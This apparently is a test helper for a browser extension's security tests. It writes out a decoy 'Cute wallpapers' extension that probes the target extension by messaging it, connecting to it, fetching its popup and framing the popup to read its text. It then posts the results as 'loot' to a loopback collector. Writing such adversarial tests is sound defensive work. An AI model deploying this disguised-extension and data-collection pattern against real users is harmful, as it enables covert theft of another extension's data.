/**
 * Another extension that somebody installed, and that means harm: it says things to ours, frames our popup in a page of
 * its own, opens it in a tab, and reports what came of each to a collector on loopback.
 */
import { once } from "node:events";
import { mkdir, writeFile } from "node:fs/promises";
import { createServer, type Server } from "node:http";
import { join } from "node:path";
import { freePort } from "./system.ts";

/** What came of each thing it tried; `refused: ...` or what it got. */
export type Loot = Readonly<Record<string, string>>;

export class Collector {
  readonly origin: string;
  readonly loot: Promise<Loot>;
  readonly #server: Server;

  private constructor(port: number, server: Server, loot: Promise<Loot>) {
    this.origin = `http://127.0.0.1:${String(port)}`;
    this.#server = server;
    this.loot = loot;
  }

  /** Serves `page` on every path, and takes the first report. */
  static async open(page = ""): Promise<Collector> {
    const port = await freePort();
    const server = createServer();
    const loot = new Promise<Loot>((resolve) => {
      server.on("request", (request, response) => {
        response.setHeader("Access-Control-Allow-Origin", "*");
        if (request.method !== "POST") return response.setHeader("Content-Type", "text/html").end(page);
        const pieces: Buffer[] = [];
        request.on("data", (piece: Buffer) => pieces.push(piece));
        request.on("end", () => {
          response.end();
          resolve(JSON.parse(Buffer.concat(pieces).toString()) as Loot);
        });
        return undefined;
      });
    });
    server.listen(port, "127.0.0.1");
    await once(server, "listening");
    return new Collector(port, server, loot);
  }

  close(): void {
    this.#server.closeAllConnections();
    this.#server.close();
  }
}

/**
 * Writes the extension into a folder.
 *
 * @param target - our extension's id, as messages name it
 * @param popup - the address of our popup's page
 */
export async function writeStrangeExtension(
  folder: string,
  { target, popup, collector }: { readonly target: string; readonly popup: string; readonly collector: string },
): Promise<string> {
  const manifest = {
    manifest_version: 3,
    name: "Cute wallpapers",
    version: "1.0",
    background: { service_worker: "background.js", scripts: ["background.js"] },
    permissions: ["tabs"],
    host_permissions: ["http://127.0.0.1/*"],
    browser_specific_settings: { gecko: { id: "wallpapers@stranger.example" } },
  };
  await mkdir(folder, { recursive: true });
  const known = `const TARGET = ${JSON.stringify(target)}, POPUP = ${JSON.stringify(popup)}, COLLECTOR = ${JSON.stringify(collector)};\n`;
  await writeFile(join(folder, "manifest.json"), JSON.stringify(manifest));
  await writeFile(join(folder, "background.js"), known + BACKGROUND);
  await writeFile(
    join(folder, "page.html"),
    `<!doctype html><iframe src="${popup}"></iframe><script src="page.js"></script>`,
  );
  await writeFile(join(folder, "page.js"), known + PAGE);
  return folder;
}

const BACKGROUND = `
const api = globalThis.browser ?? globalThis.chrome;
const look = { name: "popup.look", request: { showing: null } };
const said = (work) => Promise.race([
  Promise.resolve().then(work).then((value) => "got: " + JSON.stringify(value), (error) => "refused: " + error),
  new Promise((resolve) => setTimeout(resolve, 3000, "no answer")),
]);
async function run() {
  const loot = {};
  loot.message = await said(() => api.runtime.sendMessage(TARGET, look));
  loot.connection = await said(() => new Promise((resolve, reject) => {
    const port = api.runtime.connect(TARGET);
    port.onMessage.addListener(resolve);
    port.onDisconnect.addListener(() => reject(api.runtime.lastError?.message ?? port.error?.message ?? "closed"));
    port.postMessage(look);
  }));
  loot.read = await said(() => fetch(POPUP).then((answer) => answer.text()).then((text) => text.length));
  const { id } = await api.tabs.create({ url: api.runtime.getURL("page.html") });
  await new Promise((resolve) => setTimeout(resolve, 2500));
  loot.script = await said(() => api.tabs.sendMessage(id, "frame"));
  await fetch(COLLECTOR, { method: "POST", body: JSON.stringify(loot) });
}
run();
`;

const PAGE = `
const api = globalThis.browser ?? globalThis.chrome;
api.runtime.onMessage.addListener((message, sender, answer) => {
  let inside = "refused: no document";
  // Where a frame is refused, Firefox leaves an empty document of the page's own.
  try { inside = frames[0].document?.body?.textContent || inside; } catch (error) { inside = "refused: " + error; }
  answer(inside);
});
`;
